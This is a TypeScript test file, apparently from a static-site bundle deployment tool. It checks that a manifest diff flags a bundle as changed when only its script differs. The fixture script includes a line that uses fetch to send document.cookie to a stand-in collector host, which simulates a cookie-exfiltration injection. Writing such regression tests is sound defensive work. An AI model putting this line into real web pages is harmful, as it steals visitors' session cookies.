// Issue 17, finding 3: two bundles with the same pages and another script are not "identical content".
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchAndVerifyBundle } from '../../src/bundle/download/fetch.ts';
import { createHttpDispatcher } from '../../src/client/dispatcher.ts';
import { diffFiles, isIdentical } from '../../src/manifest/diff.ts';
import { bundleOf, page } from './support/archives.ts';
import type { FixtureEntry } from './support/archives.ts';
import { sendBody, startServer } from './support/bundle-server.ts';
import type { TestServer } from './support/bundle-server.ts';
import { bundleAt, downloadOptions, scratchDirectory, SIGNATURE } from './support/harness.ts';

const served = new Map<string, Buffer>();
let server: TestServer;
let scratch: { path: string; remove(): Promise<void> };
const http = createHttpDispatcher({ env: {} });

beforeAll(async () => {
  server = await startServer((request, response) => {
    const body = served.get((request.url ?? '').split('?')[0] ?? '');
    if (body) sendBody(request, response, body);
    else response.writeHead(404).end();
  });
  scratch = await scratchDirectory();
});
afterAll(async () => {
  await server.close();
  await scratch.remove();
  await http.dispatcher.close();
});

const siteWith = (script: string): FixtureEntry[] => [
  { name: 'index.html', content: page('Home', '<script src="assets/site.js"></script>') },
  { name: 'guides/intro.html', content: page('Guide', '<p>Steps</p>') },
  { name: 'assets/site.css', content: 'body { margin: 0 }' },
  { name: 'assets/site.js', content: script },
];

async function verifiedFiles(name: string, entries: FixtureEntry[]) {
  served.set(`/${name}.tar.gz`, await bundleOf(entries));
  const link = `${server.link(`/${name}.tar.gz`)}?X-Amz-Expires=600&${SIGNATURE}`;
  const { options } = downloadOptions(`${scratch.path}/${name}`, bundleAt(link));
  return fetchAndVerifyBundle({ ...options, http });
}

describe('a bundle whose pages are the same and whose script is not', () => {
  it('a bundle that only adds a script sending cookies elsewhere is said to hold identical content', async () => {
    const deployed = await verifiedFiles('deployed', siteWith('document.body.dataset.ready = "1";'));
    const next = await verifiedFiles(
      'next',
      siteWith('document.body.dataset.ready = "1"; fetch("https://collector.example.net/?c=" + document.cookie);'),
    );
    const diff = diffFiles(deployed.fileHashes ?? new Map(), next.fileHashes ?? new Map());
    expect(isIdentical(diff)).toBe(false);
    expect(diff).toMatchObject({ added: [], removed: [], changed: [], unchanged: 2 });
    expect(diff.otherFiles).toEqual([{ path: 'assets/site.js', change: 'changed' }]);
  });
});
